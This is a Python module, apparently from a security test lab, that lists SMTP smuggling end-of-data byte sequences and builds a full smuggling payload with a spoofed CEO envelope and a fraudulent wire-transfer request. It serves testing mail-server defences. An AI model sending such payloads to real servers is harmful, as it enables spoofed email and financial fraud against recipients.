"""SMTP smuggling: end-of-data sequences that some servers accept and others do not.

A smuggling attempt sends, inside one DATA section, an outer message, a non-standard
end-of-data sequence, and a second, complete SMTP transaction (MAIL, RCPT, DATA, an
inner message, the real CRLF.CRLF). A server that takes the non-standard sequence as the
end of the data stores two messages — the inner one with an envelope nobody inspected.

VARIANTS lists each sequence (the table of docs/engine-smtp.md, "end-of-data variants",
plus the ones from the original research, SEC Consult 2023). The lab's Postfix 3.7
(smtpd_forbid_bare_newline = no, Debian's default) ends data on the LF-based ones.
"""

VARIANTS = {
    "lf-dot-lf": b"\n.\n",
    "lf-dot-crlf": b"\n.\r\n",
    "crlf-dot-lf": b"\r\n.\n",
    "cr-dot-cr": b"\r.\r",
    "cr-dot-crlf": b"\r.\r\n",
    "crlf-dot-cr": b"\r\n.\r",
    "lf-dot-cr": b"\n.\r",
    "crlf-nul-dot-crlf": b"\r\n\x00.\r\n",
    "crlf-dot-nul-crlf": b"\r\n.\x00\r\n",
}

# The variants the lab's Postfix server really takes as end-of-data (seen in the lab,
# tests/lab/test-control.sh proves it for each run).
POSTFIX_ENDS_DATA = ("lf-dot-lf", "lf-dot-crlf", "crlf-dot-lf")

INNER_SUBJECT = "Smuggled: wire the money"


def data_bytes(variant, msg_id):
    """The bytes a client sends after DATA's 354 for one smuggling attempt."""
    eod = VARIANTS[variant]
    outer = (f"From: Alice Sender <alice@example.org>\r\n"
             f"To: Bob Receiver <bob@example.net>\r\n"
             f"Subject: Lunch\r\n"
             f"Message-ID: <{msg_id}@lab.example.org>\r\n"
             f"\r\n"
             f"See you at noon.").encode()
    inner_envelope = (b"MAIL FROM:<ceo@example.net>\r\n"
                      b"RCPT TO:<bob@example.net>\r\n"
                      b"DATA\r\n")
    inner = (f"From: CEO <ceo@example.net>\r\n"
             f"To: Bob Receiver <bob@example.net>\r\n"
             f"Subject: {INNER_SUBJECT}\r\n"
             f"Message-ID: <{msg_id}-inner@lab.example.org>\r\n"
             f"\r\n"
             f"Please wire 50,000 to account 12345 today.\r\n").encode()
    return outer + eod + inner_envelope + inner + b".\r\n"
